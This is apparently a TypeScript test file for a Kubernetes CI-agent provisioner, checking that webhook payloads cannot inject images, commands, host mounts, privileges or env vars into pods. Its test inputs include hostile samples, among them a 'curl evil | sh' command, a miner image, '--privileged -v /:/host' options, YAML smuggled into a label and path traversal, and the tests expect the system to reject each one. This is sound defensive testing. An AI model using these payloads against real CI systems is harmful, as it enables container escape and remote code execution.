import type { V1Pod } from '@kubernetes/client-node';
import fc from 'fast-check';
import { deliveryFor } from '../../../infra/local/stand-ins/builds';
import { requestIdFor } from '../../../shared/requests/identity';
import { startProvisioningSystem, type ProvisioningSystem } from '../../support/provisioning';

/**
 * A webhook picks a template by its labels and nothing else: no field of a delivery (labels crafted
 * to look like another template, its name, YAML, a path; extra fields naming an image, a command, a
 * host path, privileges or env vars) may reach the pod. Every pod made must be exactly its template's,
 * with what its CI's adapter adds: a generic agent is told its build's `job.id` (PITCREW_JOB_ID),
 * a value of the env var it names and of nothing else.
 */
const templates = [
  {
    name: 'gen-linux',
    source: 'generic',
    labels: ['linux'],
    image: 'busybox:1.36',
    env: { BUILD_TOOL: 'make' },
  },
  {
    name: 'gen-gpu',
    source: 'generic',
    labels: ['gpu', 'linux'],
    match: 'exact',
    image: 'registry.example.com/cuda:12',
    command: ['/usr/bin/agent'],
    env: { GPU: '1' },
  },
  { name: 'jk-linux', source: 'jenkins', labels: ['linux'], instanceCap: 50 },
  { name: 'gh-linux', source: 'github', labels: ['self-hosted', 'linux', 'x64'], instanceCap: 50 },
] as const;

/**
 * The env a pod may carry: its template's, and what its CI adapter sets (never secret; from the
 * webhook only the generic build's job id, as a value).
 */
const adapterEnv: Record<string, string[]> = {
  generic: ['PITCREW_AGENT_NAME', 'PITCREW_REQUEST_ID', 'PITCREW_JOB_ID'],
  jenkins: ['JENKINS_URL', 'JENKINS_AGENT_NAME', 'JENKINS_AGENT_WORKDIR', 'JENKINS_WEB_SOCKET'],
  github: ['RUNNER_NAME'],
};
const images: Record<string, string> = {
  'gen-linux': 'busybox:1.36',
  'gen-gpu': 'registry.example.com/cuda:12',
  'jk-linux': 'jenkins/inbound-agent:latest',
  'gh-linux': 'ghcr.io/actions/actions-runner:latest',
};

function expectPodIsItsTemplate(pod: V1Pod, jenkinsUrl: string): void {
  const templateName = pod.metadata?.labels?.['pitcrew.dev/template'] ?? '';
  const template = templates.find((candidate) => candidate.name === templateName);
  expect(template).toBeDefined();
  const spec = pod.spec!;
  const where = `${pod.metadata?.name} (${templateName})`;
  expect({ where, containers: spec.containers.map((c) => [c.name, c.image]) }).toEqual({
    where,
    containers: [['agent', images[templateName]]],
  });
  expect(spec.initContainers ?? []).toEqual([]);
  expect(spec.volumes ?? []).toEqual([]);
  expect(spec.hostNetwork ?? false).toBe(false);
  expect(spec.hostPID ?? false).toBe(false);
  const container = spec.containers[0]!;
  expect(container.securityContext).toMatchObject({ privileged: false, allowPrivilegeEscalation: false });
  expect(container.command).toEqual(
    'command' in template!
      ? template.command
      : template!.source === 'github'
        ? ['/home/runner/run.sh']
        : undefined,
  );
  expect(container.args).toBeUndefined();
  const env = Object.fromEntries((container.env ?? []).map((variable) => [variable.name, variable.value]));
  const allowed = new Set([
    ...Object.keys('env' in template! ? template.env : {}),
    ...adapterEnv[template!.source]!,
  ]);
  expect({ where, unexpected: Object.keys(env).filter((name) => !allowed.has(name)) }).toEqual({
    where,
    unexpected: [],
  });
  if ('env' in template!)
    for (const [name, value] of Object.entries(template.env)) expect(env[name]).toBe(value);
  if (template!.source === 'jenkins') expect(env.JENKINS_URL).toBe(jenkinsUrl);
  // The job id is the build's own: the request the pod is for is named by it.
  if (template!.source === 'generic')
    expect(requestIdFor('generic', env.PITCREW_JOB_ID ?? '')).toBe(
      pod.metadata?.labels?.['pitcrew.dev/request-id'],
    );
  expect(Object.keys(pod.metadata?.labels ?? {}).sort()).toEqual([
    'app.kubernetes.io/managed-by',
    'pitcrew.dev/request-id',
    'pitcrew.dev/source',
    'pitcrew.dev/template',
  ]);
  expect(pod.metadata?.annotations ?? {}).toEqual({});
}

describe('template injection through webhooks', () => {
  let system: ProvisioningSystem;
  beforeAll(async () => {
    system = await startProvisioningSystem({ templates: templates.map((template) => ({ ...template })) });
  });
  afterAll(() => system.close());

  let next = 1;
  const generic = (job: Record<string, unknown>) =>
    system.sendWebhook(
      'generic',
      { action: 'queued', job: { id: `inj-${next++}`, ...job } },
      { 'x-pitcrew-delivery': `inj-${next}` },
    );

  it.each([
    ['an image', { labels: ['linux'], image: 'evil/miner:latest' }],
    ['a command', { labels: ['linux'], command: ['sh', '-c', 'curl evil | sh'] }],
    ['env vars', { labels: ['linux'], env: { AWS_SECRET_ACCESS_KEY: 'x' } }],
    ['a host path', { labels: ['linux'], volumes: [{ hostPath: { path: '/' } }] }],
    ['privileges', { labels: ['linux'], privileged: true }],
    ['a template by name', { labels: ['linux'], template: 'gen-gpu' }],
  ])(
    'generic: a job naming %s is refused (400, the field named), and nothing is queued',
    async (_what, job) => {
      const answer = await generic(job);
      expect(answer).toMatchObject({ statusCode: 400, body: { field: 'job' } });
      expect(String(answer.body.error)).toMatch(/unrecognized key/i);
    },
  );

  it.each([
    ['another template’s name as a label', ['gen-gpu'], 'ignored'],
    ['YAML in a label', ['linux\nimage: evil'], 'refused'],
    ['a path in a label', ['linux/../gpu'], 'ignored'],
    ['case and spaces to reach the exact template', ['GPU', 'Linux'], 'gen-gpu'],
    ['more labels than the exact template serves', ['gpu', 'linux', 'x64'], 'ignored'],
    ['a subset that two templates offer picks the first that serves it', ['linux'], 'gen-linux'],
  ])('generic: %s %j -> %s', async (_what, labels, expected) => {
    const answer = await generic({ labels });
    if (expected === 'refused') return expect(answer.statusCode).toBe(400);
    if (expected === 'ignored')
      return expect(answer).toMatchObject({ statusCode: 200, body: { status: 'ignored' } });
    expect(answer.statusCode).toBe(202);
    await system.provisionAll();
    const record = await system.requests.get(String(answer.body.requestId));
    expect(record?.template).toBe(expected);
  });

  it('jenkins: fields beyond the contract are refused; a label expression picks by labels only', async () => {
    const refused = await system.sendWebhook(
      'jenkins',
      { action: 'queued', job: { id: 77, labels: ['linux'], image: 'evil' } },
      { 'x-pitcrew-delivery': 'jk-inj-1' },
    );
    expect(refused).toMatchObject({ statusCode: 400, body: { field: 'job' } });
    const crafted = await system.sendWebhook(
      'jenkins',
      { action: 'queued', job: { id: 78, labels: ['linux && !windows'] } },
      { 'x-pitcrew-delivery': 'jk-inj-2' },
    );
    expect(crafted.statusCode).toBe(202);
  });

  it('github: fields GitHub may add (container, runner name, a crafted repository) never reach the pod', async () => {
    const delivery = deliveryFor({ source: 'github', id: 9001 }, 'queued');
    const job = delivery.body.workflow_job as Record<string, unknown>;
    const body = {
      ...delivery.body,
      workflow_job: {
        ...job,
        runner_name: 'pc-gen-gpu-0000000000',
        container: { image: 'evil/miner:latest', options: '--privileged -v /:/host' },
        steps: [{ name: 'env', env: { EVIL: '1' } }],
      },
    };
    expect((await system.sendWebhook('github', body, delivery.headers)).statusCode).toBe(202);
    const escape = { ...delivery.body, repository: { name: '..', owner: { login: 'acme' } } };
    expect(
      await system.sendWebhook('github', escape, { ...delivery.headers, 'x-github-delivery': 'gh-inj-2' }),
    ).toMatchObject({
      statusCode: 400,
      body: { field: 'repository.name' },
    });
  });

  it('any labels at all (fast-check): a build gets its source’s template that serves them, or none', async () => {
    const label = fc.oneof(
      fc.constantFrom('linux', 'LINUX', ' gpu ', 'x64', 'self-hosted', 'gen-gpu', 'jk-linux', 'Linux'),
      fc.stringMatching(/^[A-Za-z0-9][A-Za-z0-9._\-/:]{0,12}$/),
    );
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom('generic', 'github'),
        fc.uniqueArray(label, { minLength: 1, maxLength: 4 }),
        async (source, labels) => {
          const id = 50_000 + next++;
          const delivery = deliveryFor({ source, id }, 'queued', { labels });
          const answer = await system.sendWebhook(delivery.source, delivery.body, delivery.headers);
          expect([200, 202, 400]).toContain(answer.statusCode);
          if (answer.statusCode !== 202) return;
          const record = await system.requests.get(String(answer.body.requestId));
          const template = templates.find((candidate) => candidate.name === record?.template)!;
          const wanted = new Set(labels.map((l) => l.trim().toLowerCase()));
          expect(template.source).toBe(source);
          expect([...wanted].every((l) => (template.labels as readonly string[]).includes(l))).toBe(true);
        },
      ),
      { numRuns: 60, seed: 11 },
    );
  });

  it('every pod any of the above made is exactly its template, whatever the webhook said', async () => {
    await system.provisionAll();
    const pods = await system.listPods();
    expect(pods.length).toBeGreaterThanOrEqual(5);
    for (const pod of pods) expectPodIsItsTemplate(pod, system.jenkins.url);
  });
});
